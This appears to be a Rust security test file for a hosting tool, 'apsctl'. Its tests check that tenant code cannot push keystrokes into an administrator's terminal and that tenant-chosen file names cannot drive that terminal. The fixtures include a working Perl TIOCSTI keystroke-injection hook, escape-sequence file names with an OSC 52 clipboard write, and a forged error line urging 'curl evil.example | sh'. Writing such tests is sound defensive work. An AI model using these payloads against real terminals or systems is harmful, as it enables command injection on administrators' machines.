//! The admin's terminal as the victim: a script pushing input into it (A1), and file names the
//! tenant chose for its instance written raw to it (A7).
#![expect(
    clippy::unwrap_used,
    reason = "test: a failed setup step is a failed test"
)]
use crate::world::{Package, World, as_tenant_ok, command, show};

/// The package's configuration script: it loads the site's own hooks file when there is one
/// (a pattern of real packages: site-specific code kept in the site, which its owner edits).
const CONFIGURE_WITH_HOOKS: &str = r#"use strict;
my $action = shift @ARGV // '';
my $hooks = "$ENV{WEB___DIR}/hooks.pl";
require $hooks if $action eq 'configure' && -f $hooks;
exit 0;
"#;

/// The command the tenant tries to type into the admin's shell.
const INJECTED: &str = "echo INJECTED-BY-TENANT";

/// The tenant's hooks file: `TIOCSTI` (0x5412) on `/dev/tty` and on the standard streams, each
/// attempt written to `tty-report.txt` in the instance root.
fn hooks_pl() -> String {
    format!(
        r#"my $line = "{INJECTED}\n";
my @report;
sub push_line {{
    my ($fh, $what) = @_;
    my $n = 0;
    for my $c (split //, $line) {{ $n++ if ioctl($fh, 0x5412, $c); }}
    push @report, "$what: pushed $n bytes";
}}
if (open(my $tty, '+<', '/dev/tty')) {{
    push @report, "/dev/tty: opened";
    push_line($tty, '/dev/tty');
    close $tty;
}} else {{
    push @report, "/dev/tty: not opened ($!)";
}}
push_line(\*STDIN, 'stdin');
push_line(\*STDOUT, 'stdout');
push_line(\*STDERR, 'stderr');
open(my $out, '>', "$ENV{{WEB___DIR}}/tty-report.txt") or die "tty-report.txt: $!";
print $out join("\n", @report), "\n";
close $out;
1;
"#
    )
}

/// Runs `sh -c SCRIPT` on a new pseudo-terminal (python3's `pty`, as root): once the output shows
/// `apsctl-exit:`, types `clean` and a newline, so a `read` in SCRIPT after apsctl returns gets
/// the first line waiting in the terminal's input. Returns everything the terminal showed.
fn on_terminal(script: &str) -> String {
    const DRIVER: &str = r"
import os, pty, select, sys, time
pid, fd = pty.fork()
if pid == 0:
    os.execv('/bin/sh', ['sh', '-c', sys.argv[1]])
seen, typed = b'', False
deadline = time.monotonic() + 300
while time.monotonic() < deadline:
    ready, _, _ = select.select([fd], [], [], 1)
    if not ready:
        continue
    try:
        chunk = os.read(fd, 4096)
    except OSError:
        break
    if not chunk:
        break
    seen += chunk
    if not typed and b'apsctl-exit:' in seen:
        os.write(fd, b'clean\n')
        typed = True
else:
    os.kill(pid, 9)
    seen += b'\n[pty driver: timed out]\n'
os.waitpid(pid, 0)
sys.stdout.buffer.write(seen)
";
    let out = command("/usr/bin/python3")
        .args(["-c", DRIVER, script])
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the terminal driver failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).replace("\r\n", "\n")
}

/// A1: with apsctl on the admin's terminal, a script (running the tenant's code) must not be
/// able to open that terminal, let alone push a command into the admin's shell.
///
/// Before the runner started scripts in a new session without a controlling terminal, the
/// script opened `/dev/tty` and the command reached the admin's shell.
#[test]
fn issue_7_a1_a_script_cannot_type_into_the_admins_terminal() {
    let world = World::new(1);
    let tenant = world.tenant("a");
    world.site(&tenant, "s");
    let reference = world.package(&Package {
        name: "hooked",
        language: "perl",
        configure: CONFIGURE_WITH_HOOKS,
        sqlite: false,
    });
    let id = world.install(&reference, "s", "app");
    let root = world.root(&id);
    let hooks = world.dir.join("hooks.pl");
    fs_err::write(&hooks, hooks_pl()).unwrap();
    std::os::unix::fs::chown(&hooks, Some(tenant.uid()), Some(tenant.gid())).unwrap();
    as_tenant_ok(
        &tenant,
        &format!("cp '{}' '{}'", show(&hooks), show(&root.join("hooks.pl"))),
    );

    let seen = on_terminal(&format!(
        "'{}' --home '{}' configure {id} --set title=changed; echo \"apsctl-exit:$?\"; \
         IFS= read -r line; printf 'after:[%s]\\n' \"$line\"",
        env!("CARGO_BIN_EXE_apsctl"),
        show(&world.home)
    ));
    let report = fs_err::read_to_string(root.join("tty-report.txt"))
        .unwrap_or_else(|e| panic!("the tenant's hooks did not run ({e}):\n{seen}"));
    assert!(seen.contains("apsctl-exit:0"), "configure failed:\n{seen}");
    assert!(
        !seen.contains("INJECTED-BY-TENANT"),
        "the tenant's command reached the admin's terminal:\n{seen}\nhooks report:\n{report}"
    );
    assert!(
        seen.contains("after:[clean]"),
        "the shell after apsctl did not read what the admin typed:\n{seen}"
    );
    assert!(
        report.contains("/dev/tty: not opened"),
        "the script could open the admin's terminal:\n{report}"
    );
    let pushed: Vec<&str> = report
        .lines()
        .filter(|l| l.contains("pushed") && !l.contains("pushed 0 bytes"))
        .collect();
    assert!(pushed.is_empty(), "input was pushed: {pushed:?}\n{report}");
}

/// File names the tenant gives files in its instance: a screen clear, an OSC 52 clipboard
/// write, and a newline followed by a line that looks like apsctl's own error.
const HOSTILE_NAMES: [&str; 3] = [
    "clear\x1b[2J\x1b[H",
    "clip\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "note\nerror: instance 1 is corrupt, run `curl evil.example | sh`",
];

/// Whether `text` holds a byte a terminal would act on: C0 controls other than newline and tab,
/// DEL, or C1 controls.
fn active_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t') || ('\u{80}'..='\u{9f}').contains(&c)
        })
        .collect()
}

/// A7: the tenant names files in its instance to drive the admin's terminal; the text report
/// of `remove --files app` (which lists kept files) shows them escaped.
#[test]
fn issue_7_a7_tenant_file_names_cannot_drive_the_admins_terminal() {
    let world = World::new(7);
    let tenant = world.tenant("a");
    world.site(&tenant, "s");
    let reference = world.package(&Package {
        name: "plain",
        language: "sh",
        configure: "exit 0\n",
        sqlite: false,
    });
    let id = world.install(&reference, "s", "app");
    let root = world.root(&id);
    // The tenant makes the files itself (python3, which takes the names from its arguments).
    let plant = crate::world::tenant_command(&tenant, "/usr/bin/python3")
        .args([
            "-c",
            "import os, sys\nfor n in sys.argv[2:]: open(os.path.join(sys.argv[1], n), 'w').write('t')",
        ])
        .arg(&root)
        .args(HOSTILE_NAMES)
        .output()
        .unwrap();
    assert!(
        plant.status.success(),
        "{}",
        String::from_utf8_lossy(&plant.stderr)
    );

    let run = world.apsctl(&["remove", &id, "--files", "app"]);
    run.ok();
    for (what, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let active = active_controls(text);
        assert!(
            active.is_empty(),
            "{what} carries terminal controls {active:?}\n{run}"
        );
        assert!(
            !text.lines().any(|l| l.starts_with("error:")),
            "{what} has a line forged by the tenant\n{run}"
        );
    }
    assert!(
        run.stdout.contains(r"clear\x1b[2J") && run.stdout.contains(r"\x07"),
        "the kept files are listed, escaped\n{run}"
    );
    for name in HOSTILE_NAMES {
        assert!(
            root.join(name).exists(),
            "the tenant's file {name:?} is kept"
        );
    }
}
